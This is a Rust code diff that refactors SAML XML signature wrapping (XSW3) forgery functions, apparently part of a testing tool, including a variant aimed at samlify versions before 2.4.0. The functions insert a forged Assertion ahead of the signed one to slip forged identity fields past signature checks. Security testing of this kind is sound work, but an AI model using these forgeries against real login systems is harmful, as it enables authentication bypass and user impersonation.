@@ -56,23 +56,24 @@ pub fn xsw2(f: &Forge) -> Result<Forged, Skip> {
 
 /// XSW3: a forged Assertion with a new ID inserted before the signed one.
 pub fn xsw3(f: &Forge) -> Result<Forged, Skip> {
-    let doc = parse(f)?;
-    let p = Parts::of(&doc)?;
-    p.need_assertion_sig()?;
-    let (evil, swap) = p.forged_assertion_with_id(&evil_id(p.assertion_id()))?;
-    forged(
-        p.splice_unsigned_response(vec![insert(p.assertion.range().start, evil)]),
-        swap,
-    )
+    forged_assertion_before(f, &|p, id| p.forged_assertion_with_id(id))
 }
 
 /// XSW3 for a reader of the whole document (samlify < 2.4.0): the forged Assertion, without
 /// an AudienceRestriction, before the signed one, so every field but the NameID reads once.
 pub fn forged_without_audience(f: &Forge) -> Result<Forged, Skip> {
+    forged_assertion_before(f, &|p, id| p.forged_assertion_without_audience(id))
+}
+
+/// Builds a forged copy of the Assertion with the given ID, and what it swaps.
+type ForgedCopy = dyn Fn(&Parts, &str) -> Result<(String, identity::Swap), Skip>;
+
+/// The forged Assertion `build` makes with a new ID, inserted before the signed one.
+fn forged_assertion_before(f: &Forge, build: &ForgedCopy) -> Result<Forged, Skip> {
     let doc = parse(f)?;
     let p = Parts::of(&doc)?;
     p.need_assertion_sig()?;
-    let (evil, swap) = p.forged_assertion_without_audience(&evil_id(p.assertion_id()))?;
+    let (evil, swap) = build(&p, &evil_id(p.assertion_id()))?;
     forged(
         p.splice_unsigned_response(vec![insert(p.assertion.range().start, evil)]),
         swap,
